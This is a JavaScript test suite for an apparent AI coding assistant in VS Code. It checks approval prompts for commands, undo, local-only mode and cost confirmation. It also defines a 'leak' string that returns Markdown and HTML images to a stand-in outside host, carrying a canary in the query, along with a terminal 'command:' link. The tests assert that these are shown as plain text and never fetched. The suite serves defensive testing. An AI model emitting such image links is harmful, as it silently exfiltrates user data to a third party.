// Tasks in the real VS Code: approved, done, shown, kept and undone; and on this machine alone where nothing may leave. And whatever a model says, wherever it is shown: nothing of it is fetched or run.
import assert from "node:assert/strict";
import { after } from "node:test";
import { openWindow, test } from "./support/rig.mjs";
import { model, ownAddress, startModel } from "./support/scripted-model.mjs";

const sum = "export const sum = (a, b) => a - b;\n";
const steps = [
  { tool: "run", command: ["node", "check.mjs"], folder: "" },
  { tool: "edit", edits: [{ kind: "replace", path: "sum.mjs", search: ["export const sum = (a, b) => a - b;"], text: ["export const sum = (a, b) => a + b;"] }] },
  { tool: "finish", summary: "It adds now." },
];
const nothingNew = { tool: "read_file", path: "sum.mjs", from: 0, to: 0 };

// The ninth leak: whoever shows it as Markdown or HTML tells another machine what stands behind the question mark, or runs a command.
const outside = "https://192.0.2.77";
const leak = `![x](${outside}/leak.png?d=canary) <img src="${outside}/html.png"> [open](command:workbench.action.terminal.new) [go](${outside}/link)`;
const leakySteps = [{ tool: "ask_user", question: leak }, { tool: "finish", summary: leak }];
const finding = { line: 1, quote: "a * b", kind: "correctness", severity: "error", message: leak, replacement: "" };

let asked = 0;
let leaked = 0;
const server = await startModel((question) => {
  // Measured once, before the first task: it takes no part.
  if (question.includes("You are shown a file and one change to it")) {
    return ["I would rather not."];
  }

  if (question.includes("You explain")) {
    return [leak];
  }

  if (question.includes("You check")) {
    return [JSON.stringify({ claim1: { verdict: "stands", line: 1, quote: "a * b", why: leak } })];
  }

  if (question.includes("piece1")) {
    return [JSON.stringify({ piece1: { does: leak, findings: [finding] } })];
  }

  return [JSON.stringify({ thought: "Next.", call: question.includes("Go round") ? nothingNew : question.includes("Show a picture") ? leakySteps[leaked++] : steps[asked++] })];
});
const scale = { tool: "edit", edits: [{ kind: "create", path: "scale.mjs", text: ["export const scale = (a, by) => a * by;"] }] };
const elsewhereSteps = [{ tool: "run", command: ["node", "check.mjs"], folder: "" }, scale, { tool: "finish", summary: "There is a scale now." }];
const elsewhere = ownAddress && (await startModel(() => [JSON.stringify({ thought: "Next.", call: elsewhereSteps.shift() })], ownAddress));
after(() => [server, elsewhere].forEach((one) => one?.close()));

const rig = openWindow({
  files: { "sum.mjs": sum, "check.mjs": "import { sum } from './sum.mjs';\nif (sum(2, 3) !== 5) throw new Error('sum');\n" },
  repository: true,
  settings: { "comments.openView": "never" },
  userFile: {
    "review.passes": 1,
    "endpoints.loopback": server.address,
    "endpoints.loopbackModel": model,
    "endpoints.private": `http://${elsewhere?.address ?? "10.0.0.1:9"}/v1`,
    "endpoints.privateModel": "house",
  },
  userFiles: {
    "providers.json": JSON.stringify({
      version: 1,
      models: [
        { provider: "private", model: "house", contextTokens: { value: 200_000 }, price: { value: { input: 1000, output: 4000 } } },
        { provider: "loopback", model, contextTokens: { value: 16_384 } },
      ],
    }),
  },
});

async function delegate(goal) {
  const { window } = rig;
  await window.waitForStatus(/codeassist-builtin on/);
  await window.openFile("sum.mjs");
  await window.command("CodeAssist: Delegate a Task…");
  await window.page.locator(".quick-input-widget", { hasText: "What is to be reached?" }).waitFor();
  await window.type(goal);
  await window.press("Enter");
}

const link = (hasText) => rig.window.page.frameLocator("iframe.webview.ready >> visible=true").frameLocator("#active-frame").locator(".answers a", { hasText });
const notification = (hasText) => rig.window.page.locator(".notification-list-item", { hasText });

test("a command is run only after a yes on the task's page, the difference is shown and kept, and can be undone still", async () => {
  const { window, world } = rig;
  await delegate("Make it add.");
  await notification("Run node check.mjs").waitFor();
  await window.picture("task-asks");
  assert.equal(asked, 1);
  await window.waitForPage(/Run node check\.mjs\..*node check\.mjs\s*Allow/s);
  await link("Allow").first().click();
  await notification("1 file changed").waitFor();
  await link("Keep all").waitFor();
  await window.waitForPage(/It adds now\.[^]*a \+ b[^]*Run node check\.mjs/);
  await window.picture("task-done");
  await notification("1 file changed").locator(".monaco-button", { hasText: "Keep all" }).click();
  await link("Keep all").waitFor({ state: "detached" });
  assert.match(world.read("sum.mjs"), /a \+ b/);
  await window.command("CodeAssist: Undo the Last Task");
  await window.waitForMessage(/1 file as before: sum\.mjs\./);
  assert.equal(world.read("sum.mjs"), sum);
});

test("a task that gets no further is handed to nobody where nothing may leave, and says so", async () => {
  const { window } = rig;
  await delegate("Go round.");
  const [{ text }] = await window.waitForMessage(/does not get any further/);
  await window.picture("task-stuck");

  assert.match(text, /leave this machine/);
});

test("cases 11 and 12: a picture or a link in what a model says is shown as letters, and nobody fetches or follows it", async () => {
  const { window, world } = rig;
  const { page } = window;
  const links = page.locator(`.part a, .notification-toast a, .quick-input-widget a`).filter({ hasText: /^(open|go)$/ });
  const pictures = page.locator(`img[src*="192.0.2.77"]`);
  const nothingLeaks = async (where) => {
    assert.equal(await links.count(), 0, `a link in ${where}`);
    assert.equal(await pictures.count(), 0, `a picture in ${where}`);
  };
  await window.waitForStatus(/codeassist-builtin on/);
  await window.openFile("check.mjs");
  await window.command("CodeAssist: Explain Selection or File");
  await window.waitForText(/leak\.png/);
  await page.locator(".view-line", { hasText: "leak.png" }).first().hover();
  await page.locator(".detected-link", { hasText: outside }).first().waitFor();
  await window.picture("leak-explanation");
  assert.equal(await page.locator(".detected-link", { hasText: "command:" }).count(), 0);
  await nothingLeaks("an explanation");

  world.write("work", { "sum.mjs": "export const sum = (a, b) => a * b;\n" });
  await window.openFile("sum.mjs");
  await window.command("CodeAssist: Review Changes");
  const row = page.locator(".part.sidebar .monaco-list-row", { hasText: "leak.png" }).first();
  await row.hover();
  await page.locator(".comment-range-glyph.comment-thread").first().click();
  await page.locator(".review-widget .body", { hasText: "leak.png" }).waitFor();
  await window.picture("leak-comment");
  await page.locator(".view-line", { hasText: "a * b" }).first().hover();
  await nothingLeaks("a review");

  await window.reset();
  await delegate("Show a picture.");
  const box = page.locator(".quick-input-widget", { hasText: "leak.png" });
  await box.waitFor();
  await window.picture("leak-question");
  await nothingLeaks("a question");
  await box.locator("input").first().click();
  await window.type("No.");
  await window.press("Enter");
  await window.waitForPage(/leak\.png\?d=canary/);
  await window.picture("leak-page");
  await nothingLeaks("a message");
  const shown = page.frameLocator("iframe.webview.ready >> visible=true").frameLocator("#active-frame").locator("body");
  assert.equal(await shown.locator("img, a, script, link, iframe").count(), 0);

  // Whoever looks sees: a picture in the window is asked for, and one that is put into a page is refused by the page itself.
  await shown.evaluate((body, address) => body.append(Object.assign(document.createElement("img"), { src: address })), `${outside}/page.png`);
  await page.evaluate((address) => void (new Image().src = address), `${outside}/control.png`);
  await window.waitFor(() => window.refused, (addresses) => addresses.some((address) => address.includes("control.png")), "the planted picture");
  assert.deepEqual(window.refused.filter((address) => address.includes("192.0.2.77")), [`${outside}/control.png`]);
});

test("where code may leave, the stronger model is asked after a yes to its price, and what it wants to run after another", async (context) => {
  if (!elsewhere) return context.skip("This machine has no address of its own.");
  const { window, world } = rig;
  await window.command("CodeAssist: Toggle Local-Only");
  await window.pressButton("Allow it");
  await window.waitForMessage(/Local-only is off\./);
  await delegate("Add a scale.");
  const price = notification(/Ask it, for at most \$/);
  await price.waitFor();
  await window.picture("task-price");
  assert.equal(elsewhere.questions.length, 0);
  await price.locator(".monaco-button", { hasText: /^Ask it, for at most \$/ }).click();
  await notification("Run node check.mjs").locator(".monaco-button", { hasText: "Allow" }).first().click();
  await notification("1 file changed").waitFor();
  await window.waitForPage(/There is a scale now\.[^]*private\/house[^]*scale\.mjs/);
  await window.picture("task-elsewhere");
  await notification("1 file changed").locator(".monaco-button", { hasText: "Keep all" }).click();
  assert.match(world.read("scale.mjs"), /a \* by/);
  await window.command("CodeAssist: Show Usage");
  await window.waitForPage(/house\s*agent/);
  return undefined;
});
